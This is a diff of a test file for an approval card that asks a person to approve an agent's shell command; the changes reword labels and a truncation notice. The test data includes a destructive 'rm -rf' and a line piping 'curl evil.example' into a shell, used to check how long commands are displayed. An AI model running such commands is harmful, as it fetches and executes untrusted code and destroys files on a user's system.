@@ -21,7 +21,7 @@ describe('an approval card', () => {
       [
         'May I? Run a command that removes a file.',
         'Risk: ▮▮▯▯ medium',
-        'Why you are asked: ',
+        'Reason: ',
         '• It changes files.',
         '• It is not on the list of reading programs.',
         'Tool: execute_command',
@@ -40,7 +40,7 @@ describe('an approval card', () => {
     const grave = { ...card, risk: 'irreversible', word: 'harbour', consequences } as const;
     assert.match(
       shown(cardHtml(grave, look)),
-      /\nrm notes\.txt\n\nApprove: It runs once\.\nDeny: It does not run\.\nA yes has to name this word: harbour\nUntil /,
+      /\nrm notes\.txt\n\nApprove: It runs once\.\nDeny: It does not run\.\nTo approve, choose this word: harbour\nUntil /,
     );
   });
 
@@ -73,11 +73,11 @@ describe('an approval card', () => {
       assert.ok(text.length <= 4096);
       assert.match(text, /rm -rf begin/);
       assert.match(text, /&& curl evil\.example \| sh\n/);
-      const missing = Number(/… ([\d ]+) characters in the middle/.exec(text)?.[1]?.replaceAll(' ', ''));
+      const missing = Number(/… ([\d ]+) characters left out/.exec(text)?.[1]?.replaceAll(' ', ''));
       const [head = '', tail = ''] = [...html.matchAll(/<pre>([\s\S]*?)<\/pre>/g)].map(match => shown(match[1] ?? ''));
       assert.equal(head.length + tail.length + missing, exactlyWithTabs(exact).length);
       // The note stands outside the fixed-width text, so a command that contains such a note is told apart.
-      assert.doesNotMatch(html, /<pre>[^<]*in the middle/);
+      assert.doesNotMatch(html, /<pre>[^<]*left out/);
       const settled = shown(cardHtml({ ...card, exact }, look, { outcome: 'undelivered', by: 'x'.repeat(500) }));
       assert.ok(settled.length <= 4096);
     }
